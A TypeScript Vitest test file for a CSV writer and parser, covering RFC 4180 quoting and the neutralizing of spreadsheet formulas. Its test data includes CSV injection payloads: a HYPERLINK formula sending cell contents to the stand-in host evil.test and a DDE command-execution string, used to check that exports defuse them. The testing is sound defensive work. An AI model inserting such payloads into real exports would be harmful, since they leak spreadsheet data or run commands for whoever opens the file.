import { describe, expect, it } from 'vitest'
import { csvField, neutralizeFormula, parseCsv, toCsv } from './csv'

describe('RFC 4180 CSV', () => {
  it('quotes fields with commas, quotes and line breaks, and reads them back', () => {
    const rows = [['a,b', 'say "hi"', 'two\nlines', null, 42, true]]
    const text = toCsv(['x', 'y', 'z', 'n', 'num', 'bool'], rows)
    expect(text).toBe('x,y,z,n,num,bool\r\n"a,b","say ""hi""","two\nlines",,42,true\r\n')
    expect(parseCsv(text)).toEqual([
      ['x', 'y', 'z', 'n', 'num', 'bool'],
      ['a,b', 'say "hi"', 'two\nlines', '', '42', 'true'],
    ])
  })

  it('ignores a UTF-8 byte order mark when reading', () => {
    expect(parseCsv('\uFEFFa,b\r\n')).toEqual([['a', 'b']])
    expect(csvField('plain')).toBe('plain')
  })
})

describe('CSV formula neutralizing', () => {
  it('writes text that starts a formula with a leading quote, so spreadsheets show it as text', () => {
    const hostile = [
      '=HYPERLINK("https://evil.test/?x="&A1,"click")',
      "=cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '  =1+1',
      '\u00a0@x',
      '＝1+1',
    ]
    const [, ...rows] = parseCsv(
      toCsv(
        ['a'],
        hostile.map((text) => [text]),
      ),
    )
    const cells = rows.map((row) => row[0])
    expect(cells).toEqual(hostile.map((text) => `'${text}`))
  })

  it('leaves ordinary text alone and writes numbers, negative ones included, as numbers', () => {
    expect(neutralizeFormula('Platform outage - API')).toBe('Platform outage - API')
    expect(neutralizeFormula('2025-06-01T00:00:00Z')).toBe('2025-06-01T00:00:00Z')
    expect(neutralizeFormula('')).toBe('')
    expect(csvField(-5)).toBe('-5')
    expect(csvField(99.5)).toBe('99.5')
    expect(csvField(false)).toBe('false')
    expect(csvField('-5')).toBe("'-5")
  })
})
